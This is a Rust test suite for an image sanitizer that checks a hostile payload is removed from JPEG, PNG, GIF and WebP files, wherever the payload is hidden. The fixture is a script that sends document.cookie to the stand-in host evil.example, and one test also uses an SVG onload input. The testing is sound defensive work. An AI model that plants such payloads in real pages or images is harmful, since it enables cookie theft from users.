//! No payload comes through, wherever it hides.

use mailwright_images::{Limits, prepare};

use crate::made::{self, gif, jpeg, png, webp};

const PAYLOAD: &[u8] = b"<script>fetch('//evil.example/'+document.cookie)</script><!--PK\x03\x04-->";

/// Prepares a picture with a payload: it is kept, without it.
fn cleaned(what: &str, file: &[u8]) -> Vec<u8> {
    assert!(made::has(file, PAYLOAD) || made::has(file, b"x\x9c"), "{what}: the payload is there");
    let picture = prepare(file, &Limits::default()).unwrap_or_else(|refused| panic!("{what}: {refused}"));
    assert!(!made::has(&picture.bytes, PAYLOAD), "{what}: the payload came through");
    assert!(!made::has(&picture.bytes, b"<script"), "{what}: a part of the payload came through");
    picture.bytes
}

#[test]
fn behind_the_picture() {
    let files = [
        jpeg::photo(40, 30, jpeg::PLAIN),
        jpeg::photo(40, 30, jpeg::PROGRESSIVE),
        png::photo(40, 30),
        gif::animation(40, 30, 2),
        webp::photo(40, 30),
        webp::animation(20, 10, 2),
    ];
    for file in files {
        let clean = prepare(&file, &Limits::default()).unwrap().bytes;
        assert!(cleaned("behind it", &[&file, PAYLOAD].concat()) == clean);
    }
}

#[test]
fn in_the_segments_of_a_jpeg() {
    let file = jpeg::photo(40, 30, jpeg::PLAIN);
    let clean = prepare(&file, &Limits::default()).unwrap().bytes;
    let icc = [&b"ICC_PROFILE\0\x01\x01"[..], PAYLOAD].concat();
    let thumbnail = [&b"JFIF\0\x01\x02\0\0\x01\0\x01\x05\x05"[..], PAYLOAD].concat();
    let segments: [(u8, Vec<u8>); 7] = [
        (0xfe, PAYLOAD.to_vec()),
        (0xe0, thumbnail),
        (0xe1, jpeg::exif(1, PAYLOAD)),
        (0xe1, [&b"http://ns.adobe.com/xap/1.0/\0"[..], PAYLOAD].concat()),
        (0xe2, icc),
        (0xed, [&b"Photoshop 3.0\0"[..], PAYLOAD].concat()),
        (0xef, PAYLOAD.to_vec()),
    ];
    for (marker, content) in &segments {
        let result = cleaned("segment", &jpeg::with_segment(&file, *marker, content));
        assert!(result == clean, "{marker:x}");
    }
    // a segment can be longer than what is read of it
    let adobe = [&b"Adobe\0\x64\0\0\0\0\x01"[..], PAYLOAD].concat();
    cleaned("adobe", &jpeg::with_segment(&file, 0xee, &adobe));
}

#[test]
fn between_the_data_of_a_jpeg_and_its_end() {
    for made in [jpeg::PLAIN, jpeg::PROGRESSIVE] {
        let file = jpeg::photo(40, 30, made);
        let clean = prepare(&file, &Limits::default()).unwrap().bytes;
        // behind the data of the last scan
        let end = file.len() - 2;
        assert!(cleaned("behind data", &[&file[..end], PAYLOAD, &file[end..]].concat()) == clean);
        // behind the data of the first scan, and between segments
        let after_first = jpeg::places(&file, 0xda).get(1).copied().unwrap_or(end);
        for place in [after_first, jpeg::places(&file, 0xdb)[0]] {
            assert!(cleaned("between", &[&file[..place], PAYLOAD, &file[place..]].concat()) == clean);
        }
    }
}

#[test]
fn in_tables_of_a_jpeg_that_nothing_uses() {
    let file = jpeg::photo(40, 30, jpeg::PLAIN);
    let clean = prepare(&file, &Limits::default()).unwrap().bytes;
    let scan = jpeg::places(&file, 0xda)[0];
    let mut payload = PAYLOAD.to_vec();
    payload.resize(64, b' ');
    let quantization = jpeg::segment(0xdb, &[&[3], &payload[..]].concat());
    let mut counts = [0; 16];
    counts[7] = PAYLOAD.len() as u8;
    let codes = jpeg::segment(0xc4, &[&[0x13], &counts[..], PAYLOAD].concat());
    for table in [quantization, codes] {
        let with_table = [&file[..scan], &table, &file[scan..]].concat();
        let picture = prepare(&with_table, &Limits::default()).unwrap();
        assert!(picture.bytes == clean);
    }
}

#[test]
fn in_the_chunks_of_a_png() {
    let file = png::photo(40, 30);
    let clean = prepare(&file, &Limits::default()).unwrap().bytes;
    let packed = png::packed(PAYLOAD);
    let chunks = [
        png::chunk(*b"tEXt", &[b"Comment\0", PAYLOAD].concat()),
        png::chunk(*b"zTXt", &[b"Comment\0\0", &packed[..]].concat()),
        png::chunk(*b"iTXt", &[b"XML:com.adobe.xmp\0\0\0\0\0", PAYLOAD].concat()),
        png::chunk(*b"eXIf", PAYLOAD),
        png::chunk(*b"iCCP", &[b"<script>\0\0", &packed[..]].concat()),
        png::chunk(*b"gAMA", PAYLOAD),
        png::chunk(*b"cHRM", &PAYLOAD[..32]),
        png::chunk(*b"pHYs", &PAYLOAD[..9]),
        png::chunk(*b"PLTE", &PAYLOAD[..66]),
        png::chunk(*b"evIl", PAYLOAD),
        png::chunk(*b"fdAT", PAYLOAD),
    ];
    let (after_header, before_end) = (33, file.len() - 12);
    for chunk in chunks {
        for place in [after_header, before_end] {
            let with_chunk = [&file[..place], &chunk, &file[place..]].concat();
            match prepare(&with_chunk, &Limits::default()) {
                Ok(picture) => assert!(picture.bytes == clean),
                // a chunk that has to be known is not where it belongs
                Err(refused) => assert_eq!((refused.code(), &chunk[4..8]), ("picture_damaged", &b"PLTE"[..])),
            }
        }
    }
}

#[test]
fn in_the_data_of_a_png_behind_what_is_packed() {
    let data = png::packed(&png::rows(&made::photo(40, 30), 120));
    let file = |chunks: &[Vec<u8>]| png::file(&[&[png::header(40, 30, 8, 2, 0)], chunks].concat());
    let clean = prepare(&file(&[png::chunk(*b"IDAT", &data)]), &Limits::default()).unwrap().bytes;
    let same_chunk = file(&[png::chunk(*b"IDAT", &[&data, PAYLOAD].concat())]);
    assert!(cleaned("behind data", &same_chunk) == clean);
    let next_chunk = file(&[png::chunk(*b"IDAT", &data), png::chunk(*b"IDAT", PAYLOAD)]);
    assert!(cleaned("chunk behind data", &next_chunk) == clean);
}

#[test]
fn in_the_blocks_of_a_gif() {
    let frame = gif::frame(40, 30, 0, &gif::packed(&gif::pixels(40, 30, 0)));
    let file = |blocks: &[&[u8]]| [&gif::start(40, 30)[..], &blocks.concat(), &[0x3b]].concat();
    let clean = prepare(&file(&[&frame]), &Limits::default()).unwrap().bytes;
    let application = [b"\x21\xff\x0bXMP DataXMP", &gif::parts(PAYLOAD)[..]].concat();
    let loops = [b"\x21\xff\x0bNETSCAPE2.0", &gif::parts(PAYLOAD)[..]].concat();
    for block in [gif::extension(0xfe, PAYLOAD), gif::extension(0x77, PAYLOAD), application, loops] {
        assert!(cleaned("block", &file(&[&block, &frame])) == clean);
        assert!(cleaned("block", &file(&[&frame, &block])) == clean);
    }
    // behind the code that ends the data, in their last part and in one of its own
    let packed = gif::packed(&gif::pixels(40, 30, 0));
    let longer = gif::frame(40, 30, 0, &[&packed[..], &[0; 16], PAYLOAD].concat());
    let result = cleaned("data", &file(&[&longer]));
    assert!(gif::seen(&result) == gif::seen(&clean));
    assert!(result.len() <= clean.len() + 8);
}

#[test]
fn in_the_chunks_of_a_webp() {
    let image = webp::chunk(*b"VP8L", &webp::data(&webp::photo(40, 30)));
    let clean = prepare(&webp::file(std::slice::from_ref(&image)), &Limits::default()).unwrap().bytes;
    for name in [*b"EXIF", *b"XMP ", *b"ICCP", *b"evil"] {
        let payload = webp::chunk(name, PAYLOAD);
        let before = webp::file(&[webp::header(0x2c, 40, 30), payload.clone(), image.clone()]);
        assert!(cleaned("chunk", &before) == clean);
        let behind = webp::file(&[webp::header(0x0c, 40, 30), image.clone(), payload]);
        assert!(cleaned("chunk", &behind) == clean);
    }
    // behind the data, in the chunk of the picture, and in a frame
    let data = [webp::data(&webp::photo(40, 30)), PAYLOAD.to_vec()].concat();
    let picture = cleaned("data", &webp::file(&[webp::chunk(*b"VP8L", &data)]));
    assert!(webp::seen(&picture) == webp::seen(&clean));
    let frame = webp::frame((0, 0), 40, 30, &[webp::chunk(*b"evil", PAYLOAD), webp::chunk(*b"VP8L", &data)]);
    let header = webp::header(2, 40, 30);
    let animation = webp::chunk(*b"ANIM", &[&[0; 6], PAYLOAD].concat());
    cleaned("frame", &webp::file(&[header, animation, frame]));
}

#[test]
fn what_is_no_picture_is_refused_by_its_content() {
    let code = |file: &[u8]| prepare(file, &Limits::default()).unwrap_err().code();
    assert_eq!(code(b""), "picture_empty");
    assert_eq!(code(b"<svg onload=alert(1)>"), "picture_format_not_supported");
    assert_eq!(code(PAYLOAD), "picture_format_not_supported");
    // the start of a picture alone does not do
    for start in [&b"GIF89a"[..], b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"RIFF\x40\0\0\0WEBP"] {
        let code = code(&[start, PAYLOAD].concat());
        assert!(matches!(code, "picture_damaged" | "picture_too_long"), "{code}");
    }
}
